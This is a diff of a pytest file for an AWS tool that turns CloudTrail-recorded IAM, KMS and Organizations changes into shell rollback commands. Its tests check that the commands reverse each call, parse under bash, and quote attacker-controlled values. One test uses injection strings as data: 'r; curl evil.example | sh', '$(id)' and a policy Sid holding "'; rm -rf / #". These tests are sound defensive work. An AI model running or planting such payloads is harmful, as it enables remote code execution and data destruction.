@@ -4,7 +4,9 @@ every value shell-quoted (CloudTrail fields are attacker-controlled), and the gr
 
 from __future__ import annotations
 
+import json
 import shlex
+import subprocess
 
 import pandas as pd
 import pytest
@@ -23,40 +25,72 @@ def _change(name: str, request: dict, region: str = "me-central-1") -> Candidate
                      request=request, response={})
 
 
-@pytest.mark.parametrize("name, request_parameters, before_known, expected", [
-    ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::123456789012:policy/p", "setAsDefault": True}, True,
-     "aws iam set-default-policy-version --policy-arn arn:aws:iam::123456789012:policy/p --version-id v3"),
-    ("AttachRolePolicy", {"roleName": "r", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}, True,
-     "aws iam detach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess"),
-    ("DetachUserPolicy", {"userName": "u", "policyArn": "arn:aws:iam::123456789012:policy/kms"}, True,
-     "aws iam attach-user-policy --user-name u --policy-arn arn:aws:iam::123456789012:policy/kms"),
-    ("DisableKey", {"keyId": KEY}, True, f"aws kms enable-key --key-id {KEY}"),
-    ("AttachPolicy", {"policyId": "p-abcd1234", "targetId": "ou-ab12-cdef3456"}, True,
-     "aws organizations detach-policy --policy-id p-abcd1234 --target-id ou-ab12-cdef3456 (in the organization's "
-     "management account)"),
-    ("PutKeyPolicy", {"keyId": KEY, "policyName": "default"}, True,
-     f"aws kms put-key-policy --key-id {KEY} --policy-name default --policy file://before.json (before.json: the "
-     "key policy this call replaced, verdict.change.before)"),
-    ("PutRolePolicy", {"roleName": "r", "policyName": "inline"}, True,
-     "aws iam put-role-policy --role-name r --policy-name inline --policy-document file://before.json (before.json: "
-     "the document this call replaced, verdict.change.before)"),
+BEFORE = {"Version": "2012-10-17", "Statement": [{"Sid": "Keep's", "Effect": "Allow", "Action": "kms:*",
+                                                  "Resource": "*", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}}]}
+
+
+@pytest.mark.parametrize("name, request_parameters, expected", [
+    ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::123456789012:policy/p", "setAsDefault": True},
+     ["aws", "iam", "set-default-policy-version", "--policy-arn", "arn:aws:iam::123456789012:policy/p",
+      "--version-id", "v3"]),
+    ("AttachRolePolicy", {"roleName": "r", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
+     ["aws", "iam", "detach-role-policy", "--role-name", "r", "--policy-arn", "arn:aws:iam::aws:policy/ReadOnlyAccess"]),
+    ("DetachUserPolicy", {"userName": "u", "policyArn": "arn:aws:iam::123456789012:policy/kms"},
+     ["aws", "iam", "attach-user-policy", "--user-name", "u", "--policy-arn", "arn:aws:iam::123456789012:policy/kms"]),
+    ("DisableKey", {"keyId": KEY}, ["aws", "kms", "enable-key", "--region", "me-central-1", "--key-id", KEY]),
+    ("ScheduleKeyDeletion", {"keyId": KEY},
+     ["aws", "kms", "cancel-key-deletion", "--region", "me-central-1", "--key-id", KEY, "&&",
+      "aws", "kms", "enable-key", "--region", "me-central-1", "--key-id", KEY]),
+    ("AttachPolicy", {"policyId": "p-abcd1234", "targetId": "ou-ab12-cdef3456"},
+     ["aws", "organizations", "detach-policy", "--policy-id", "p-abcd1234", "--target-id", "ou-ab12-cdef3456"]),
+    ("PutKeyPolicy", {"keyId": KEY, "policyName": "default"},
+     ["aws", "kms", "put-key-policy", "--region", "me-central-1", "--key-id", KEY, "--policy-name", "default",
+      "--policy", BEFORE]),
+    ("PutRolePolicy", {"roleName": "r", "policyName": "inline"},
+     ["aws", "iam", "put-role-policy", "--role-name", "r", "--policy-name", "inline", "--policy-document", BEFORE]),
+    ("UpdatePolicy", {"policyId": "p-abcd1234"},
+     ["aws", "organizations", "update-policy", "--policy-id", "p-abcd1234", "--content", BEFORE]),
 ])
-def test_the_rollback_reverses_the_call_from_its_own_parameters(name, request_parameters, before_known, expected):
-    assert rollback(_change(name, request_parameters), before_known=before_known, previous_version="v3") == expected
+def test_the_rollback_reverses_the_call_from_its_own_parameters(name, request_parameters, expected):
+    """The command, as a shell reads it (notes are comments), with a replaced document inline."""
+    text = rollback(_change(name, request_parameters), before=BEFORE, previous_version="v3")
+    words = shlex.split(text, comments=True)
+    parsed = [json.loads(w) if w.startswith("{") else w for w in words]
+    assert parsed == expected
+
+
+@pytest.mark.parametrize("name, request_parameters, before", [
+    ("PutKeyPolicy", {"keyId": KEY}, None), ("PutKeyPolicy", {"keyId": KEY}, BEFORE),
+    ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p", "setAsDefault": True}, None),
+    ("ScheduleKeyDeletion", {"keyId": KEY}, None), ("AttachPolicy", {"policyId": "p-1", "targetId": "r-ab12"}, None),
+    ("UpdatePolicy", {"policyId": "p-1"}, BEFORE), ("PutUserPolicy", {"userName": "u", "policyName": "p"}, BEFORE),
+])
+def test_every_command_pastes_into_a_shell(name, request_parameters, before):
+    """Notes never break the command: bash parses what the rollback says (`bash -n`, nothing runs)."""
+    text = rollback(_change(name, request_parameters), before=before)
+    assert text.startswith("aws ")
+    checked = subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True, check=False)
+    assert checked.returncode == 0, checked.stderr
 
 
 def test_without_the_earlier_state_the_rollback_says_what_to_restore():
-    text = rollback(_change("PutKeyPolicy", {"keyId": KEY}), before_known=False)
-    assert text.startswith(f"Restore the statement of key {KEY}'s policy") and "not in the evidence" in text
-    version = rollback(_change("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p"}), before_known=True)
-    assert "list-policy-versions" in version and "<that version>" in version
-    assert rollback(_change("CreateGrant", {"keyId": KEY}), before_known=True) == ""
+    text = rollback(_change("PutKeyPolicy", {"keyId": KEY}), before=None)
+    assert shlex.split(text, comments=True)[-1] == "file://restored.json" and "not in the evidence" in text
+    version = rollback(_change("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p"}), before=None)
+    assert shlex.split(version, comments=True) == ["aws", "iam", "list-policy-versions", "--policy-arn",
+                                                   "arn:aws:iam::1:policy/p"]
+    assert "set-default-policy-version" in version and "<that version>" in version
+    assert rollback(_change("UpdatePolicy", {"policyId": "p-1"}), before=None).startswith("Put back the content")
+    assert rollback(_change("CreateGrant", {"keyId": KEY}), before=BEFORE) == ""
 
 
 def test_hostile_values_are_quoted_for_the_shell():
     hostile = "r; curl evil.example | sh"
-    text = rollback(_change("AttachRolePolicy", {"roleName": hostile, "policyArn": "$(id)"}), before_known=True)
+    text = rollback(_change("AttachRolePolicy", {"roleName": hostile, "policyArn": "$(id)"}), before=None)
     assert shlex.split(text) == ["aws", "iam", "detach-role-policy", "--role-name", hostile, "--policy-arn", "$(id)"]
+    document = {"Statement": [{"Sid": "'; rm -rf / #", "Effect": "Allow", "Action": "*", "Resource": "*"}]}
+    put = rollback(_change("PutRolePolicy", {"roleName": "r", "policyName": "p"}), before=document)
+    assert json.loads(shlex.split(put, comments=True)[-1]) == document
 
 
 def _entry(name: str, denied_now: object, undone: dict | None = None) -> dict:
@@ -80,5 +114,43 @@ def test_a_group_needs_its_rollback_while_any_incident_is_still_denied():
     assert undone["change"]["denied_now"] is False and undone["change"]["undone_by"] == UNDONE
     html = group_block(undone, 1)
     assert "Not needed now" in html and 'title="arn:aws:iam::123456789012:user/oncall"' in html
+    [mixed] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", False, dict(UNDONE, event_id="e-3"))])
+    assert mixed["change"]["denied_now"] is False and mixed["change"]["undone_by"] is None  # not one change
     [unknown] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", None)])  # a summary from before
     assert unknown["change"]["denied_now"] is None and "needed" not in group_block(unknown, 1)
+
+
+def test_a_new_default_version_rolls_back_to_the_version_that_was_the_default():
+    """Three versions: v1 the default until CreatePolicyVersion made v3 the default, v2 a draft never made the
+    default (recorded: SetDefaultPolicyVersion v1 after v2 was created). The state before is v1, not the
+    highest older version: the change is named with v1's document and rolled back to v1."""
+    from kit.diagnose import diagnose
+    from tests.test_diagnose_units import (ACCOUNT, USER, authorization_details, evidence, lookup, record,
+                                           seed_documents)
+
+    arn = f"arn:aws:iam::{ACCOUNT}:policy/ebs-keys"
+    allows = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "kms:CreateGrant", "Resource": "*"}]}
+    lacks = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "kms:DescribeKey", "Resource": "*"}]}
+    details = authorization_details()
+    details["UserDetailList"][0]["AttachedManagedPolicies"] = [{"PolicyName": "ebs-keys", "PolicyArn": arn}]
+    details["Policies"] = [{"PolicyName": "ebs-keys", "Arn": arn, "DefaultVersionId": "v3", "AttachmentCount": 1,
+                            "PolicyVersionList": [
+                                {"VersionId": "v3", "IsDefaultVersion": True, "Document": lacks},
+                                {"VersionId": "v2", "IsDefaultVersion": False, "Document": lacks},
+                                {"VersionId": "v1", "IsDefaultVersion": False, "Document": allows}]}]
+    iam = {"eventSource": "iam.amazonaws.com", "awsRegion": "us-east-1"}
+    set_v1 = record("22222222-0000-0000-0000-000000000001", "SetDefaultPolicyVersion", "iam.amazonaws.com",
+                    "2024-04-20T08:00:00Z", requestParameters={"policyArn": arn, "versionId": "v1"})
+    made_v3 = record("22222222-0000-0000-0000-000000000002", "CreatePolicyVersion", "iam.amazonaws.com",
+                     "2024-04-30T08:00:00Z", requestParameters={"policyArn": arn, "setAsDefault": True,
+                                                                "policyDocument": json.dumps(lacks)},
+                     responseElements={"policyVersion": {"versionId": "v3", "isDefaultVersion": True}})
+    for event in (set_v1, made_v3):
+        event.update(iam)
+    documents = seed_documents(**{"iam.get-account-authorization-details.json": details,
+                                  "cloudtrail.lookup-events.change-policy-ebs-keys.json": lookup([set_v1, made_v3])})
+    change = diagnose(evidence(documents)).verdict.change
+    assert change is not None and (change["event_name"], change["principal_arn"]) == ("CreatePolicyVersion", USER)
+    assert change["before"] == allows and change["after"] == lacks
+    assert shlex.split(change["rollback"]) == ["aws", "iam", "set-default-policy-version", "--policy-arn", arn,
+                                               "--version-id", "v1"]
